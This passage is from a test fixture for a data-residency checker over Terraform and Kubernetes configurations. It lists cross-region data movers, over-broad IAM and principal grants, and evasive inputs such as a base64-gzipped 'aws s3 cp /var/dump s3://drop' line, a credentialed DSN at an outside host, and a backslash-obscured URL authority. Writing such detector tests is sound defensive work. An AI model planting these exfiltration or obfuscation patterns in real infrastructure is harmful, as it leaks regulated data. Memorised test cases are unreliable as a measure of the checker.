  V("mover", "DynamoDB stream to another region's Kinesis", "data-eu", { add: r("aws_dynamodb_kinesis_streaming_destination", "D", { table_name: "t", stream_arn: `arn:aws:kinesis:us-east-1:${EU}:stream/s` }) }),
  V("mover", "DynamoDB export to an unknown bucket", "data-eu", { add: r("aws_dynamodb_table_export", "E", { table_arn: `arn:aws:dynamodb:eu-central-1:${EU}:table/t`, s3_bucket: "exports-shared" }) }),
  V("mover", "RDS replica of another jurisdiction's database", "data-eu", { add: r("aws_db_instance", "Replica", { identifier: "rk-eu-replica", instance_class: "db.r7g.large", replicate_source_db: "arn:aws:rds:us-west-2:111111111111:db:rk-us-shard-001" }) }),
  V("mover", "automated backups replicated from another jurisdiction", "data-eu", {
    add: r("aws_db_instance_automated_backups_replication", "B", { source_db_instance_arn: "arn:aws:rds:us-west-2:111111111111:db:rk-us-shard-001", retention_period: 7 }),
  }),
  V("mover", "AWS Backup copy to another jurisdiction", "data-eu", {
    add: r("aws_backup_plan", "P", { name: "p", rule: [{ rule_name: "r", target_vault_name: "v", schedule: "cron(0 5 * * ? *)", copy_action: [{ destination_vault_arn: `arn:aws:backup:us-east-1:${EU}:backup-vault:dr` }] }] }),
  }),
  V("mover", "MSK replicator to another region", "data-eu", {
    add: r("aws_msk_replicator", "R", {
      replicator_name: "r",
      service_execution_role_arn: "r",
      kafka_cluster: [{ amazon_msk_cluster: { msk_cluster_arn: `arn:aws:kafka:eu-central-1:${EU}:cluster/a/1` }, vpc_config: { subnet_ids: ["s"] } }, { amazon_msk_cluster: { msk_cluster_arn: `arn:aws:kafka:ap-northeast-1:${EU}:cluster/b/2` }, vpc_config: { subnet_ids: ["s"] } }],
      replication_info_list: { source_kafka_cluster_arn: `arn:aws:kafka:eu-central-1:${EU}:cluster/a/1`, target_kafka_cluster_arn: `arn:aws:kafka:ap-northeast-1:${EU}:cluster/b/2`, target_compression_type: "NONE", topic_replication: [{ topics_to_replicate: [".*"] }], consumer_group_replication: [{ consumer_groups_to_replicate: [".*"] }] },
    }),
  }),
  V("mover", "OpenSearch cross-cluster search to another region", "data-eu", {
    add: r("aws_opensearch_outbound_connection", "C", { connection_alias: "c", local_domain_info: { owner_id: EU, region: "eu-central-1", domain_name: "rk-eu-search" }, remote_domain_info: { owner_id: EU, region: "us-east-1", domain_name: "x" } }),
  }),
  V("mover", "EMR logs to an unknown bucket", "data-eu", {
    mutate: (j) => {
      const [, c] = find(j, "aws_emr_cluster");
      c.log_uri = "s3://emr-logs-central/eu/";
    },
  }),
  V("mover", "MSK Connect S3 sink to an unknown bucket", "data-eu", {
    add: r("aws_mskconnect_connector", "S3Sink", {
      name: "rk-eu-s3-sink",
      kafkaconnect_version: "2.7.1",
      connector_configuration: { "connector.class": "io.confluent.connect.s3.S3SinkConnector", topics: "eu.cdc.block", "s3.bucket.name": "lake-mirror", "s3.region": "eu-central-1" },
      kafka_cluster: { apache_kafka_cluster: { bootstrap_servers: "b-1.rk-eu-kafka.abc.c2.kafka.eu-central-1.amazonaws.com:9098", vpc: { security_groups: ["sg"], subnets: ["s"] } } },
    }),
  }),
  V("mover", "IAM policy writing to any bucket", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:PutObject", Resource: "arn:aws:s3:::*/*" }]) }),
  V("mover", "role may publish to any topic", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "sns:Publish", Resource: "*" }]) }),
  V("mover", "role may write anywhere but its own bucket (NotResource)", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "s3:PutObject", NotResource: `arn:aws:s3:::${RAW}/*` }]) }),
  V("mover", "role may send to a queue in any region", "data-eu", { mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: "sqs:SendMessage", Resource: `arn:aws:sqs:*:${EU}:rk-eu-out` }]) }),
  V("mover", "role may assume any role (NotAction complement)", "cdc-eu", {
    add: merge(
      r("aws_iam_role", "Wide", { name: "rk-eu-wide", assume_role_policy: doc([{ Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" }]) }),
      r("aws_iam_role_policy", "WideP", { role: "${aws_iam_role.Wide.id}", policy: doc([{ Effect: "Allow", NotAction: ["iam:*"], Resource: "*" }]) }),
    ),
  }),
  V("mover", "Secrets Manager rotation by another region's Lambda", "data-eu", { add: r("aws_secretsmanager_secret_rotation", "R", { secret_id: "s", rotation_lambda_arn: `arn:aws:lambda:us-east-1:${EU}:function:rotate`, rotation_rules: { automatically_after_days: 30 } }) }),

  // ---- the designed crossing must stay what it is ---------------------------------------------------
  V("exception", "event sink also ships raw CDC topics", "data-eu", { mutate: (j) => setConnector(j, { topics: "eu.events,eu.cdc.block" }) }),
  V("exception", "event sink writes another region's table", "data-eu", { mutate: (j) => setConnector(j, { "snowflake.topic2table.map": "eu.events:EVENTS_US" }) }),
  V("exception", "event sink reads topics by regex", "data-eu", {
    mutate: (j) => {
      const [, c] = find(j, "aws_mskconnect_connector");
      delete c.connector_configuration.topics;
      c.connector_configuration["topics.regex"] = "eu\\..*";
    },
  }),
  V("exception", "event sink with a literal Snowflake URL", "data-eu", { mutate: (j) => setConnector(j, { "snowflake.url.name": "https://ab12345.eu-central-1.snowflakecomputing.com" }) }),
  V("exception", "a second Snowflake sink named like the event sink", "data-eu", {
    add: r("aws_mskconnect_connector", "EventSink2", {
      name: "rk-eu-event-sink-2",
      kafkaconnect_version: "2.7.1",
      connector_configuration: { "connector.class": "com.snowflake.kafka.connector.SnowflakeSinkConnector", topics: "eu.cdc.block", "snowflake.topic2table.map": "eu.cdc.block:BLOCKS", "snowflake.database.name": "REGIONKIT", "snowflake.schema.name": "EVENTS" },
      kafka_cluster: { apache_kafka_cluster: { bootstrap_servers: "b-1.rk-eu-kafka.abc.c2.kafka.eu-central-1.amazonaws.com:9098", vpc: { security_groups: ["sg"], subnets: ["s"] } } },
    }),
  }),
  V("exception", "event sink with a renaming transform", "data-eu", { mutate: (j) => setConnector(j, { transforms: "route", "transforms.route.type": "org.apache.kafka.connect.transforms.RegexRouter" }) }),

  // ---- closed world ---------------------------------------------------------------------------------
  V("closed-world", "AppFlow flow", "data-eu", { add: r("aws_appflow_flow", "F", { name: "f" }) }),
  V("closed-world", "Transfer Family server", "data-eu", { add: r("aws_transfer_server", "T", { endpoint_type: "PUBLIC" }) }),
  V("closed-world", "CloudFront distribution", "data-eu", { add: r("aws_cloudfront_distribution", "D", { enabled: true }) }),
  V("closed-world", "RAM share of a subnet", "data-eu", { add: r("aws_ram_resource_share", "S", { name: "s", allow_external_principals: true }) }),
  V("closed-world", "IoT topic rule", "data-eu", { add: r("aws_iot_topic_rule", "R", { name: "r", enabled: true, sql: "SELECT *", sql_version: "2016-03-23" }) }),
  V("closed-world", "Global Accelerator", "data-eu", { add: r("aws_globalaccelerator_accelerator", "A", { name: "a" }) }),
  V("closed-world", "Helm release in cdc", "cdc-eu", { add: r("helm_release", "H", { name: "mm2", chart: "mirror-maker" }) }),
  V("closed-world", "Snowflake objects in a regional stack", "data-eu", { add: r("snowflake_stage", "S", { name: "S", database: "D", schema: "S", url: `s3://${SANITIZED}/export/` }) }),

  // ---- central ----------------------------------------------------------------------------------------
  V("central", "central reads the regional logs zone", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "s3:GetObject", Resource: "arn:aws:s3:::rk-eu-lake-logs-222222222222/*" }]) }) }),
  V("central", "central reads regional log groups", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: ["logs:GetLogEvents", "logs:FilterLogEvents"], Resource: "arn:aws:logs:eu-central-1:222222222222:log-group:/rk/eu/*" }]) }) }),
  V("central", "central reads through a regional access point", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "s3:GetObject", Resource: "arn:aws:s3:eu-central-1:222222222222:accesspoint/*" }]) }) }),
  V("central", "central NotResource complement", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "s3:GetObject", NotResource: "arn:aws:s3:::rk-central-config-111111111111/*" }]) }) }),
  V("central", "central NotAction complement", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", NotAction: ["iam:*", "organizations:*"], Resource: "*" }]) }) }),
  V("central", "central assumes warehouse-read", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "sts:AssumeRole", Resource: "arn:aws:iam::222222222222:role/rk-eu-warehouse-read" }]) }) }),
  V("central", "central assumes any role", "central", {
    mutate: (j) => {
      const [, p] = find(j, "aws_iam_role_policy", (a) => a.name === "orchestrate-regions");
      const d = JSON.parse(p.policy);
      d.Statement.push({ Effect: "Allow", Action: "sts:AssumeRole", Resource: "*" });
      p.policy = JSON.stringify(d);
    },
  }),
  V("central", "central replicates its config bucket into a regional lake bucket", "central", {
    mutate: (j) => {
      const [address] = find(j, "aws_s3_bucket", (a) => String(a.bucket).includes("config"));
      j.resource.aws_s3_bucket_replication_configuration = { R: { bucket: `\${aws_s3_bucket.${address}.id}`, role: "arn:aws:iam::111111111111:role/rk-central-repl", rule: [{ id: "x", status: "Enabled", destination: { bucket: "arn:aws:s3:::rk-us-lake-raw-111111111111" } }] } };
    },
  }),
  V("central", "central event target on a regional queue", "central", { add: r("aws_cloudwatch_event_target", "T", { rule: "r", arn: "arn:aws:sqs:eu-central-1:222222222222:rk-eu-ingest" }) }),
  V("central", "central resource in a regional AWS region", "central", { mutate: (j) => addProvider(j, "aws", { alias: "eu", region: "eu-central-1" }) }),
  V("central", "central database", "central", { add: r("aws_db_instance", "D", { identifier: "rk-central-db", instance_class: "db.t4g.micro", engine: "postgres" }) }),
  V("central", "central reads regional queues", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "sqs:ReceiveMessage", Resource: "arn:aws:sqs:ap-northeast-1:333333333333:*" }]) }) }),
  V("central", "central runs commands on regional instances", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "ssm:SendCommand", Resource: "arn:aws:ec2:eu-central-1:222222222222:instance/*" }]) }) }),
  V("central", "central invokes regional functions", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "lambda:InvokeFunction", Resource: "arn:aws:lambda:*:*:function:*" }]) }) }),
  V("central", "central decrypts with any key", "central", { add: r("aws_iam_policy", "P", { name: "p", policy: doc([{ Effect: "Allow", Action: "kms:Decrypt", Resource: "*" }]) }) }),

  // ---- warehouse ----------------------------------------------------------------------------------------
  V("warehouse", "stage over the raw lake", "warehouse", { add: r("snowflake_stage", "Raw", { name: "RAW", database: "REGIONKIT", schema: "SANITIZED", url: `s3://${RAW}/`, storage_integration: "RK_EU_SANITIZED" }) }),
  V("warehouse", "integration allowing every location", "warehouse", {
    add: r("snowflake_storage_integration", "Any", { name: "ANY", type: "EXTERNAL_STAGE", storage_provider: "S3", enabled: true, storage_allowed_locations: ["*"], storage_aws_role_arn: `arn:aws:iam::${EU}:role/rk-eu-warehouse-read` }),
  }),
  V("warehouse", "integration over the lake zone", "warehouse", {
    add: r("snowflake_storage_integration", "Lake", { name: "LAKE", type: "EXTERNAL_STAGE", storage_provider: "S3", enabled: true, storage_allowed_locations: [`s3://rk-eu-lake-lake-${EU}/tables/`], storage_aws_role_arn: `arn:aws:iam::${EU}:role/rk-eu-warehouse-read` }),
  }),
  V("warehouse", "locals point one region's export at its raw bucket", "warehouse", { mutate: (j) => (j.locals.warehouse_regions.eu.export_path = `s3://${RAW}/`) }),
  V("warehouse", "locals swap the read role for another role", "warehouse", { mutate: (j) => (j.locals.warehouse_regions.eu.role_arn = `arn:aws:iam::${EU}:role/rk-eu-spark-job-sanitize`) }),
  V("warehouse", "pipe copying straight from the raw lake", "warehouse", {
    add: r("snowflake_pipe", "Raw", { name: "RAW_PIPE", database: "REGIONKIT", schema: "SANITIZED", copy_statement: `COPY INTO REGIONKIT.SANITIZED.X FROM 's3://${RAW}/tables/' FILE_FORMAT = (TYPE = PARQUET)` }),
  }),
  V("warehouse", "stage on Azure", "warehouse", { add: r("snowflake_stage", "Az", { name: "AZ", database: "REGIONKIT", schema: "SANITIZED", url: "azure://acct.blob.core.windows.net/c/" }) }),
  V("warehouse", "stage from a variable", "warehouse", { add: r("snowflake_stage", "V", { name: "V", database: "REGIONKIT", schema: "SANITIZED", url: "${var.stage_url}" }) }),

  // ---- cdc-<id> Kubernetes ---------------------------------------------------------------------------
  V("kubernetes", "MirrorMaker2 replicating the region's Kafka", "cdc-eu", { add: kafkaManifest("KafkaMirrorMaker2", { replicas: 1, connectCluster: "target", clusters: [{ alias: "target", bootstrapServers: "b-1.rk-us-kafka.abc.c2.kafka.us-west-2.amazonaws.com:9098" }] }) }),
  V("kubernetes", "Kafka HTTP bridge", "cdc-eu", { add: kafkaManifest("KafkaBridge", { replicas: 1, bootstrapServers: "b-1:9098", http: { port: 8080 } }) }),
  V("kubernetes", "extra S3 sink connector", "cdc-eu", {
    add: kafkaManifest("KafkaConnector", { class: "io.confluent.connect.s3.S3SinkConnector", tasksMax: 1, config: { topics: "eu.cdc.block", "s3.bucket.name": "mirror", "s3.region": "eu-central-1" } }),
  }),
  V("kubernetes", "MirrorSourceConnector", "cdc-eu", {
    add: kafkaManifest("KafkaConnector", { class: "org.apache.kafka.connect.mirror.MirrorSourceConnector", tasksMax: 1, config: { "source.cluster.alias": "eu", topics: ".*" } }),
  }),
  V("kubernetes", "Connect cluster bootstrapped from an external Kafka", "cdc-eu", {
    mutate: (j) => {
      const [, c] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "KafkaConnect");
      c.manifest.spec.bootstrapServers = "kafka.vendor.io:9092";
    },
  }),
  V("kubernetes", "Connect cluster bootstrapped from another region's MSK", "cdc-eu", {
    mutate: (j) => {
      const [, c] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "KafkaConnect");
      c.manifest.spec.bootstrapServers = "b-1.rk-us-kafka.abc.c2.kafka.us-west-2.amazonaws.com:9098";
    },
  }),
  V("kubernetes", "kubernetes provider at another region's EKS endpoint", "cdc-eu", {
    mutate: (j) => {
      j.provider.kubernetes[0].host = "https://ABCDEF0123456789.gr7.us-west-2.eks.amazonaws.com";
    },
  }),
  V("kubernetes", "kubernetes provider from a kubeconfig", "cdc-eu", {
    mutate: (j) => {
      j.provider.kubernetes[0] = { config_path: "~/.kube/config", config_context: "prod-us" };
    },
  }),
  V("kubernetes", "kubernetes provider token for another cluster", "cdc-eu", {
    mutate: (j) => {
      j.provider.kubernetes[0].exec[0].args = ["eks", "get-token", "--cluster-name", "rk-us-cdc", "--region", "eu-central-1"];
    },
  }),
  V("kubernetes", "Service aliasing an external host", "cdc-eu", { add: r("kubernetes_manifest", "Svc", { manifest: { apiVersion: "v1", kind: "Service", metadata: { name: "x", namespace: "cdc" }, spec: { type: "ExternalName", externalName: "db.vendor.io" } } }) }),
  V("kubernetes", "Debezium connector reading an external database", "cdc-eu", {
    mutate: (j) => {
      const [, c] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "KafkaConnector");
      c.manifest.spec.config["database.hostname"] = "pg.vendor.io";
    },
  }),
  V("kubernetes", "Deployment shipping to an external Kafka", "cdc-eu", {
    mutate: (j) => {
      const [, d] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment");
      d.manifest.spec.template.spec.containers[0].env = [...(d.manifest.spec.template.spec.containers[0].env ?? []), { name: "MIRROR_BOOTSTRAP", value: "mirror.vendor.io:9092" }];
    },
  }),

  // ==== expressions fail closed: whatever an interpolation produces must be visible to the analysis ========
  V("expression", "template literal hiding a region code", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: '${"ap-south-2"}' }) }),
  V("expression", "lower() over a literal upper-case host", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: '${lower("LOGS.SA-EAST-1.AMAZONAWS.COM")}' }) }),
  V("expression", "substr over a literal builds a region", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: '${substr("xxca-west-1", 2, 9)}' }) }),
  V("expression", "variable spliced into a bucket URI", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).sink = { type: "string", default: "rk-eu-lake" }),
    add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "s3://${var.sink}-archive/out" }),
  }),
  V("expression", "value read from a Secrets Manager data source", "data-eu", {
    mutate: (j) => ((j.data ??= {}).aws_secretsmanager_secret_version = { Dst: { secret_id: "rk-eu-dst" } }),
    add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "${data.aws_secretsmanager_secret_version.Dst.secret_string}" }),
  }),
  V("expression", "conditional choosing a host", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: '${true ? "a.example.org" : "b"}' }) }),
  V("expression", "resource policy built with jsonencode", "data-eu", {
    add: r("aws_sns_topic_policy", "TP", { arn: "arn:aws:sns:eu-central-1:222222222222:rk-eu-x", policy: '${jsonencode({Statement = [{Effect = "Allow", Principal = {AWS = "*"}, Action = "sns:Subscribe", Resource = "*"}]})}' }),
  }),
  V("expression", "base64 of percent-encoded foreign endpoint (two layers)", "data-eu", {
    add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: Buffer.from("https%3A%2F%2Fkinesis.ap-southeast-3.amazonaws.com%2F").toString("base64") }),
  }),
  V("expression", "gzip+base64 user data naming another region", "data-eu", {
    add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: gzipSync("#!/bin/sh\naws s3 cp /var/dump s3://drop --region me-central-1\n").toString("base64") }),
  }),
  V("expression", "line-wrapped base64 naming another region", "data-eu", {
    add: r("aws_ssm_parameter", "P", {
      name: "/rk/eu/x",
      type: "String",
      value: (Buffer.from("#cloud-config\nruncmd:\n  - [aws, sqs, send-message, --region, il-central-1, --queue-url, q]\n").toString("base64").match(/.{1,60}/g) ?? []).join("\n"),
    }),
  }),
  // ==== central: on a regional ARN only the orchestrator's path, whatever the action ======================
  V("central", "central glue:GetTable on the JP catalog", "central", { add: r("aws_iam_policy", "P2", { name: "p2", policy: doc([{ Effect: "Allow", Action: "glue:GetTable", Resource: "arn:aws:glue:ap-northeast-1:333333333333:table/rk/events" }]) }) }),
  V("central", "central redshift-data on KR workgroups", "central", { add: r("aws_iam_policy", "P2", { name: "p2", policy: doc([{ Effect: "Allow", Action: ["redshift-data:ExecuteStatement", "redshift-serverless:GetCredentials"], Resource: "arn:aws:redshift-serverless:ap-northeast-2:444444444444:workgroup/*" }]) }) }),
  V("central", "central widens the EMR step grant with elasticmapreduce:*", "central", { add: r("aws_iam_policy", "P2", { name: "p2", policy: doc([{ Effect: "Allow", Action: "elasticmapreduce:*", Resource: "arn:aws:elasticmapreduce:eu-central-1:222222222222:cluster/*" }]) }) }),
  V("central", "central assumes another EU role than orchestrator-access", "central", { add: r("aws_iam_policy", "P2", { name: "p2", policy: doc([{ Effect: "Allow", Action: "sts:AssumeRole", Resource: "arn:aws:iam::222222222222:role/rk-eu-spark-job-sanitize" }]) }) }),
  // ==== wildcard regions and provider identities ======================================================
  V("reference", "role may kinesis:PutRecord to streams in any region", "data-eu", { mutate: rolePolicy("rk-eu-spark-job-sanitize", [{ Effect: "Allow", Action: "kinesis:PutRecord", Resource: `arn:aws:kinesis:*:${EU}:stream/*` }]) }),
  V("placement", "provider assumes a web-identity role of another account", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "wi", region: "eu-central-1", assume_role_with_web_identity: [{ role_arn: "arn:aws:iam::909090909090:role/deployer", web_identity_token_file: "/t" }] }),
  }),
  V("placement", "provider assume_role list entry from a local", "data-eu", {
    mutate: (j) => addProvider(j, "aws", { alias: "al", region: "eu-central-1", assume_role: [{ role_arn: "${local.deploy_role}" }] }),
  }),
  // ==== false-positive classes: digests, Kubernetes Secret data ======================================
  L("legit", "image pinned by a sha256 digest whose hex has a 12-digit run", "cdc-eu", {
    mutate: (j) => {
      const [, d] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment");
      const c = d.manifest.spec.template.spec.containers[0];
      c.image = `${c.image.split("@")[0].split(":")[0]}@sha256:ab01${"7".repeat(4)}604819273645abcdef0123456789abcdef0123456789abcdef012345`;
      d.manifest.metadata.annotations = { ...(d.manifest.metadata.annotations ?? {}), "regionkit/commit": "c0ffee501234567890aa1b2c3d4e5f60718293a4" };
    },
  }),
  L("legit", "Kubernetes Secret whose data is base64 of the region's own values", "cdc-eu", {
    add: r("kubernetes_manifest", "Sec2", {
      manifest: { apiVersion: "v1", kind: "Secret", metadata: { name: "own", namespace: "cdc" }, type: "Opaque", data: { REGION: Buffer.from("eu-west-1").toString("base64"), LAKE: Buffer.from(`rk-eu-lake-sanitized-${EU}`).toString("base64") } },
    }),
  }),
  // ==== destinations in any key: bare hosts, IPs, DSNs, non-HTTP remotes, WHATWG parsing, foreign buckets =
  V("external", "Lambda env with a bare vendor host in a non-host key", "data-eu", {
    add: r("aws_lambda_function", "F2", { function_name: "rk-eu-f2", role: `arn:aws:iam::${EU}:role/rk-eu-f2`, handler: "i.h", runtime: "python3.12", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { FORWARD_TO: "collector.telemetry-saas.net" } } }),
  }),
  V("external", "MySQL DSN with credentials at an outside host", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "svc:pw@tcp(mysql.partner.co:3306)/app" }) }),
  V("external", "public IP literal as a target", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "198.51.100.77" }) }),
  V("external", "Azure blob remote without a URL", "cdc-eu", { add: r("kubernetes_manifest", "Cm", { manifest: { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "sync", namespace: "cdc" }, data: { target: "azureblob:exports/eu" } } }) }),
  V("external", "backslash before @ hides the real authority", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "https://drop.partner.dev\\@s3.eu-central-1.amazonaws.com/x" }) }),
  V("mover", "virtual-hosted URL of a bucket that is not the region's", "data-eu", { add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "https://partner-landing.s3.eu-west-1.amazonaws.com/in/" }) }),
  L("legit", "security group egress to 0.0.0.0/0 and the VPC resolver 169.254.169.253", "data-eu", {
    add: r("aws_ssm_parameter", "P", { name: "/rk/eu/x", type: "String", value: "resolver 169.254.169.253; cidr 0.0.0.0/0" }),
  }),
  // ==== principals: bounding conditions must be the literal own account ===============================
  V("principal", "Principal * bounded by the policy variable $${aws:SourceAccount} (true for every caller)", "data-eu", {
    add: r("aws_s3_bucket_policy", "Taut", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { StringEquals: { "aws:SourceAccount": "$${aws:SourceAccount}" } } }]) }),
  }),
  V("principal", "Principal * bounded by an account from a variable", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).trusted = { type: "string" }),
    add: r("aws_s3_bucket_policy", "VarB", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { StringEquals: { "aws:PrincipalAccount": "${var.trusted}" } } }]) }),
  }),
  // ==== warehouse: Snowflake types classified one by one, Snowflake region ids ==========================
  V("warehouse", "snowflake_listing publishes the sanitized data", "warehouse", { add: r("snowflake_listing", "L", { name: "RK_PUBLIC", share: "RK_SHARE" }) }),
  V("warehouse", "snowflake_secondary_database pulls a replica from another account", "warehouse", { add: r("snowflake_secondary_database", "S", { name: "RK_COPY", as_replica_of: "PARTNER.ACCT.REGIONKIT" }) }),
  V("warehouse", "database replication to another account", "warehouse", {
    mutate: (j) => {
      const [, d] = find(j, "snowflake_database");
      d.replication = { enable_to_account: [{ account_identifier: "PARTNERORG.DR" }] };
    },
  }),
  V("warehouse", "Snowflake region id of another AWS region", "warehouse", { add: r("snowflake_account_role", "R2", { name: "RK_DR", comment: "x", owner: "AWS_SA_EAST_1" }) }),
  // ==== designed crossing and dynamic mover inputs ======================================================
  V("exception", "event sink converter pointing a schema registry at an outside host", "data-eu", { mutate: (j) => setConnector(j, { "value.converter.schema.registry.url": "https://registry.partner.dev:8081" }) }),
  V("exception", "event sink converter class replaced by a host:port", "data-eu", { mutate: (j) => setConnector(j, { "key.converter": "converter.partner.dev:443" }) }),
  V("mover", "Step Functions SQS send with QueueUrl.$ from the execution input", "data-eu", {
    add: r("aws_sfn_state_machine", "Sm", {
      name: "rk-eu-relay",
      role_arn: `arn:aws:iam::${EU}:role/rk-eu-relay`,
      definition: JSON.stringify({ StartAt: "S", States: { S: { Type: "Task", Resource: "arn:aws:states:::sqs:sendMessage", Parameters: { "QueueUrl.$": "$.target", "MessageBody.$": "$" }, End: true } } }),
    }),
  }),
  V("mover", "Step Functions Lambda invoke with a JSONata function name", "data-eu", {
    add: r("aws_sfn_state_machine", "Sm", {
      name: "rk-eu-relay",
      role_arn: `arn:aws:iam::${EU}:role/rk-eu-relay`,
      definition: JSON.stringify({ QueryLanguage: "JSONata", StartAt: "S", States: { S: { Type: "Task", Resource: "arn:aws:states:::lambda:invoke", Arguments: { FunctionName: "{% $states.input.fn %}" }, End: true } } }),
    }),
  }),
  L("legit", "event sink with literal converter classes and flags", "data-eu", {
    mutate: (j) => setConnector(j, { "value.converter": "com.snowflake.kafka.connector.records.SnowflakeJsonConverter", "value.converter.schemas.enable": "false" }),
  }),
  V("principal", "raw bucket readable by the logging service with no source condition", "data-eu", {
    add: r("aws_s3_bucket_policy", "Svc", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { Service: "delivery.logs.amazonaws.com" }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*` }]) }),
  }),
  V("principal", "role trusting an own-account OIDC provider with only an audience", "data-eu", {
    add: r("aws_iam_role", "Ci", {
      name: "rk-eu-ci",
      assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: `arn:aws:iam::${EU}:oidc-provider/gitlab.example.internal` }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringEquals: { "gitlab.example.internal:aud": "sts" } } }]),
    }),
  }),
  V("principal", "role trusting Cognito identity pools with no audience", "data-eu", {
    add: r("aws_iam_role", "Cg", { name: "rk-eu-cg", assume_role_policy: doc([{ Effect: "Allow", Principal: { Federated: "cognito-identity.amazonaws.com" }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { "ForAnyValue:StringLike": { "cognito-identity.amazonaws.com:amr": "authenticated" } } }]) }),
  }),
  L("legit", "raw bucket readable by the logging service bounded to the own account", "data-eu", {
    add: r("aws_s3_bucket_policy", "Svc", { bucket: RAW, policy: doc([{ Effect: "Allow", Principal: { Service: "delivery.logs.amazonaws.com" }, Action: "s3:GetObject", Resource: `arn:aws:s3:::${RAW}/*`, Condition: { StringEquals: { "aws:SourceAccount": EU } } }]) }),
  }),
  L("legit", "init container fetching a released jar from Maven Central", "cdc-eu", {
    mutate: (j) => {
      const [, d] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment");
      d.manifest.spec.template.spec.initContainers = [{ name: "fetch", image: "busybox:1.36", command: ["wget", "-O", "/lib/ext/agent.jar", "https://repo.maven.apache.org/maven2/org/example/agent/2.3.0/agent-2.3.0.jar"] }];
    },
  }),
  V("external", "init container posting to Maven Central with a query string is no download", "cdc-eu", {
    mutate: (j) => {
      const [, d] = find(j, "kubernetes_manifest", (a) => a.manifest.kind === "Deployment");
      d.manifest.spec.template.spec.initContainers = [{ name: "fetch", image: "busybox:1.36", command: ["wget", "https://repo.maven.apache.org/maven2/x.jar?d=payload"] }];
    },
  }),
  V("principal", "policy document merging a literal JSON document", "data-eu", {
    mutate: (j) => ((j.data ??= {}).aws_iam_policy_document = { Merged: { source_policy_documents: [doc([{ Effect: "Allow", Principal: { AWS: "*" }, Action: "sqs:SendMessage", Resource: "*" }])], statement: [{ actions: ["sqs:GetQueueUrl"], resources: ["*"] }] } }),
  }),
  V("mover", "Firehose HTTP delivery's failed-record bucket from a variable", "data-eu", {
    mutate: (j) => ((j.variable ??= {}).spill = { type: "string" }),
    add: r("aws_kinesis_firehose_delivery_stream", "Fh", { name: "rk-eu-fh", destination: "extended_s3", extended_s3_configuration: { role_arn: `arn:aws:iam::${EU}:role/rk-eu-fh`, bucket_arn: `arn:aws:s3:::${SANITIZED}`, s3_backup_mode: "Enabled", s3_backup_configuration: { role_arn: `arn:aws:iam::${EU}:role/rk-eu-fh`, bucket_arn: "${var.spill}" } } }),
  }),
  V("external", "role may text customers through AWS End User Messaging", "data-eu", { mutate: rolePolicy("rk-eu-spark-job-sanitize", [{ Effect: "Allow", Action: "sms-voice:SendTextMessage", Resource: `arn:aws:sms-voice:eu-central-1:${EU}:phone-number/*` }]) }),
  L("legit", "reference function over a resource of this stack (replace removing text from an attribute)", "data-eu", {
    mutate: (j) => {
      const [q] = find(j, "aws_s3_bucket");
      j.resource.aws_ssm_parameter = { ...(j.resource.aws_ssm_parameter ?? {}), P: { name: "/rk/eu/x", type: "String", value: `\${replace(aws_s3_bucket.${q}.bucket, "-", "")}` } };
    },
  }),

  // ==== edge routing bound per region ======================================================================
  V("edge", "ROUTES send eu workspaces to the us logging API", "edge", { mutate: (j) => setRoute(j, "eu", "https://events.us.example.com/v1/events") }),
